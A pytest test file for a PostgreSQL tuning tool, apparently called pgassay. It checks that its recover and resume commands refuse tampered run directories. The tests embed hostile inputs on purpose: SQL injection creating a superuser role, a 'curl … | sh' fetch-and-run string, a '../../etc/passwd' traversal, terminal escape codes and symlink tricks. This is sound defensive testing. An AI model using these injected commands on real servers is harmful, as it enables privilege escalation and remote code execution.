"""A run directory that its user did not make changes nothing, runs nothing and removes nothing."""

from __future__ import annotations

import json
import os
import pty
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from pgassay.plan.design import make_plan
from pgassay.samples.ownership.own_runs import was_begun_here
from pgassay.samples.run_directory import RunDirectory
from pgassay.spec.parse import load_spec
from support.runs.broken import spec_file, watched
from support.runs.command import last_line, pgassay
from support.servers.existing import auto_conf
from support.servers.lab import LabServer, is_root

NOBODY = 65534
EVIL = "CREATE ROLE evil SUPERUSER"


def run_directory(path: Path, target: str, *changes: dict[str, Any]) -> Path:
    """A directory that passes for a killed run's."""
    path.mkdir(mode=0o700)
    (path / "trials").mkdir(mode=0o700)
    (path / "plan.json").write_text("{}")
    (path / "workload.json").write_text("{}")
    (path / "spec.toml").write_text(f"question = 'q'\n[workload]\nuse = 'payments-write'\n{target}")
    lines = [{"event": "change", "at": 1.0, **one} for one in changes]
    (path / "journal.jsonl").write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    for one in (path, *path.iterdir()):
        one.chmod(0o700 if one.is_dir() else 0o600)
    return path


def refused(*words: str | Path, **variables: str) -> str:
    done = pgassay(*words, **variables)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "\x1b" not in done.stderr
    return last_line(done.stderr)


SETTING = {"kind": "setting", "id": "1", "name": "work_mem", "value": "8MB", "found": "4MB"}


KNOB = {"kind": "knob", "id": "1", "name": "vm.swappiness", "value": "1", "found": "60"}


@pytest.fixture
def untouched(lab_server: LabServer) -> Iterator[None]:
    before = auto_conf(lab_server)
    yield
    with lab_server.admin() as session:
        roles = session.execute("SELECT FROM pg_roles WHERE rolname = 'evil'").fetchall()
    assert roles == []
    assert auto_conf(lab_server) == before


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize(
    ("change", "words"),
    [
        (
            {"id": "1", "what": "\x1b[2Jharmless", "do": "", "undo": f"{EVIL}; COPY …"},
            f"the line says: \\x1b[2Jharmless, undone by: {EVIL}; COPY …",
        ),
        ({**SETTING, "undo": EVIL}, "'undo' is no field"),
        ({**SETTING, "name": f"work_mem = 1; {EVIL}; --"}, "not the name of a setting"),
        ({**SETTING, "scope": f'role "x"; {EVIL}; --', "of": "x"}, "is no place"),
        ({**KNOB, "name": "../../etc/passwd"}, "unknown knob"),
    ],
)
def test_recover_runs_nothing_that_stands_in_a_journal(
    lab_server: LabServer, tmp_path: Path, change: dict[str, Any], words: str
) -> None:
    run = run_directory(tmp_path / "run", lab_server.target(), change)
    for more in ([], ["--yes"], ["--dry-run"]):
        line = refused("recover", run, *more, **lab_server.variables(), COLUMNS="500")
        assert "journal.jsonl, line 1: " in line
        assert words in line


@pytest.mark.usefixtures("untouched")
def test_what_the_own_record_lacks_is_shown_and_asked_for(
    lab_server: LabServer, tmp_path: Path
) -> None:
    hostile = {**SETTING, "name": "archive_command", "value": "", "found": "curl e\x1bvil | sh"}
    variant = {
        "kind": "variant", "id": "2", "database": "lab", "name": "b", "part": 1, "parts": 1,
        "undo": f"{EVIL};\nSELECT 1",
    }  # fmt: skip
    run = run_directory(tmp_path / "run", lab_server.target(), hostile, variant)
    server = {**lab_server.variables(), "COLUMNS": "500"}
    shown = pgassay("recover", "--dry-run", run, **server)
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout.splitlines() == [
        "to do (not in your own record): connect to the server by connection string"
        f" {lab_server.place()}",
        f"to do (not in your own record): run in database lab: {EVIL};\\nSELECT 1",
        "to do (not in your own record): setting archive_command:  → curl e\\x1bvil | sh",
    ]
    done = pgassay("recover", run, **server)
    assert done.returncode == 1
    assert "3 of these lines are not in your own record" in last_line(done.stderr)
    assert "--yes" in last_line(done.stderr)
    assert "\x1b" not in done.stdout + done.stderr


def at_a_terminal(answer: str, *words: str | Path, **variables: str) -> tuple[int, str]:
    """The command with a terminal as its input, and what it printed."""
    ours, theirs = pty.openpty()
    command = [sys.executable, "-m", "pgassay", *map(str, words)]
    environment = {**os.environ, **variables}
    with subprocess.Popen(
        command, stdin=theirs, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=environment
    ) as tool:
        os.close(theirs)
        os.write(ours, f"{answer}\n".encode())
        assert tool.stdout is not None
        text = tool.stdout.read().decode()
        tool.wait(60)
    os.close(ours)
    return tool.returncode, text


def test_a_user_at_a_terminal_says_yes_or_no(lab_server: LabServer, tmp_path: Path) -> None:
    with lab_server.admin() as session:
        session.execute("ALTER SYSTEM SET work_mem = '8MB'")
    run = run_directory(tmp_path / "run", lab_server.target(), SETTING)
    code, text = at_a_terminal("n", "recover", run, **lab_server.variables())
    assert (code, auto_conf(lab_server)) == (1, {"work_mem": "8MB"}), text
    code, text = at_a_terminal("y", "recover", run, **lab_server.variables())
    assert (code, auto_conf(lab_server)) == (0, {"work_mem": "4MB"}), text
    with lab_server.admin() as session:
        session.execute("ALTER SYSTEM RESET work_mem")
        session.execute("SELECT pg_reload_conf()")


def designed(path: Path, target: str, load: str = "") -> Path:
    """The directory of a run that was just begun."""
    file = path.with_suffix(".toml")
    file.write_text(f"question = 'q'\n{target}[workload]\nuse = 'payments-write'\n{load}")
    spec, run = load_spec(file), RunDirectory.create(path)
    run.store_design(spec, make_plan(spec))
    return path


@pytest.mark.parametrize("words", [["recover"], ["run", "--resume"]])
def test_a_stored_restart_command_is_not_run_where_the_server_does_not_answer(
    tmp_path: Path, words: list[str]
) -> None:
    data, ran = tmp_path / "data", tmp_path / "ran"
    data.mkdir()
    run = designed(
        tmp_path / "run",
        f"[target]\ndsn = 'host=127.0.0.1 port=1'\nrestart_command = 'touch {ran}'\n"
        "allow_restart = true\nallow_changes = true\n",
    )
    entry = {"event": "change", "at": 1.0, **SETTING, "data": str(data)}
    (run / "journal.jsonl").write_text(json.dumps(entry))
    (run / "journal.jsonl").chmod(0o600)
    done = pgassay(*words, run, COLUMNS="500", XDG_STATE_HOME=str(tmp_path / "another user's"))
    assert done.returncode == 1
    assert f"server in {data} by: touch {ran}" in done.stderr
    assert "--yes" in last_line(done.stderr)
    assert not ran.exists()


def test_a_command_of_a_run_that_was_not_begun_here_is_asked_for(tmp_path: Path) -> None:
    ran = tmp_path / "ran"
    load = f"[load]\ncommand = ['touch', '{ran}']\nthroughput = {{ pattern = 'tps = (.+)' }}\n"
    run = designed(tmp_path / "run", "", load)
    elsewhere = {"COLUMNS": "500", "XDG_STATE_HOME": str(tmp_path / "another user's")}
    done = pgassay("run", "--resume", run, **elsewhere)
    assert done.returncode == 1
    assert f"use load.command = ['touch', '{ran}']" in done.stderr
    assert "--yes" in last_line(done.stderr)
    assert not ran.exists()


@pytest.mark.parametrize("link", [False, True])
def test_no_directory_but_that_of_a_server_of_ours_is_removed(
    tmp_path: Path, own_base: Path, link: bool
) -> None:
    kept = tmp_path / "run-0123456789ab"
    kept.mkdir()
    (kept / "precious").touch()
    base = tmp_path
    if link:
        base = own_base
        (base / kept.name).symlink_to(kept)
        (base / f"{kept.name}.owner").write_text(
            json.dumps({"account": "root", "socket": str(kept)})
        )
    change = {"kind": "owned server", "id": "1", "base": str(base), "name": kept.name}
    run = run_directory(tmp_path / "run", "", change)
    done = pgassay("recover", "--yes", run, PGASSAY_DATA=str(own_base), COLUMNS="500")
    assert done.returncode in (1, 5), done.stdout
    assert (kept / "precious").exists()
    (own_base / kept.name).unlink(missing_ok=True)


OWNERS: dict[str, Callable[[Path, Path], dict[str, str]]] = {
    "directory for sockets": lambda _, victim: {"socket": str(victim)},
    "control group": lambda own, victim: {
        "socket": str(own / "socket"),
        "memory_group": str(victim),
    },
}


@pytest.mark.parametrize("what", OWNERS)
def test_a_marker_that_names_anything_else_is_refused(
    tmp_path: Path, own_base: Path, what: str, account: Any
) -> None:
    name, victim = "run-0123456789ab", Path("/tmp") / f"pgassay-{os.getpid()}-link"  # noqa: S108
    (own_base / name).mkdir()
    kept = tmp_path / "kept"
    kept.mkdir()
    victim.symlink_to(kept)
    marker = own_base / f"{name}.owner"
    marker.write_text(
        json.dumps({"account": account.name, **OWNERS[what](own_base / name, victim)})
    )
    change = {"kind": "owned server", "id": "1", "base": str(own_base), "name": name}
    run = run_directory(tmp_path / "run", "", change)
    try:
        line = refused("recover", run, PGASSAY_DATA=str(own_base), COLUMNS="500")
        assert f"{marker} names a {what} that is not of its server" in line
        assert kept.exists()
    finally:
        victim.unlink()


@pytest.mark.skipif(not is_root(), reason="only root can make files of another user")
@pytest.mark.parametrize("file", ["", "journal.jsonl", "spec.toml", "plan.json", "trials"])
def test_root_acts_for_no_directory_of_another_user(tmp_path: Path, file: str) -> None:
    run = run_directory(tmp_path / "run", "", SETTING)
    os.chown(run / file, NOBODY, NOBODY)
    for words in (["recover"], ["recover", "--yes"], ["run", "--resume"]):
        line = refused(*words, run, COLUMNS="500")
        assert f"{(run / file) if file else run}: belongs to nobody, not to root" in line


@pytest.mark.parametrize("file", ["", "journal.jsonl", "spec.toml", "trials"])
def test_a_directory_that_others_may_write_is_refused(tmp_path: Path, file: str) -> None:
    run = run_directory(tmp_path / "run", "", SETTING)
    (run / file).chmod(0o770)
    for words in (["recover", "--yes"], ["run", "--resume", "--yes"]):
        assert "others may write it (mode 0770)" in refused(*words, run, COLUMNS="500")
    (run / file).chmod(0o700)
    (run / "spec.toml").rename(tmp_path / "spec.toml")
    (run / "spec.toml").symlink_to(tmp_path / "spec.toml")
    assert "spec.toml: is a symbolic link" in refused("recover", "--yes", run, COLUMNS="500")


def test_a_run_of_ones_own_is_put_back_without_a_question_and_says_first_what_it_does(
    lab_server: LabServer, tmp_path: Path
) -> None:
    target = lab_server.target("allow_changes = true", "accept = ['commits', 'sessions']")
    spec, run = spec_file(tmp_path, target=target), tmp_path / "run"
    with watched(run, spec, **lab_server.variables()) as tool:
        tool.wait_for(lambda: len(tool.finished()) >= 1, "a finished trial")
        tool.kill()
    assert was_begun_here(run)
    moved = shutil.move(run, tmp_path / "moved")
    changed = auto_conf(lab_server)
    shown = pgassay("recover", "--dry-run", moved, **lab_server.variables(), COLUMNS="500")
    assert "to do: setting work_mem of 127.0.0.1:" in shown.stdout
    assert "not in your own record" not in shown.stdout
    assert auto_conf(lab_server) == changed
    done = pgassay("recover", moved, **lab_server.variables(), COLUMNS="500")
    assert done.returncode == 0, done.stderr
    assert shown.stdout in done.stderr
    assert auto_conf(lab_server) == {}
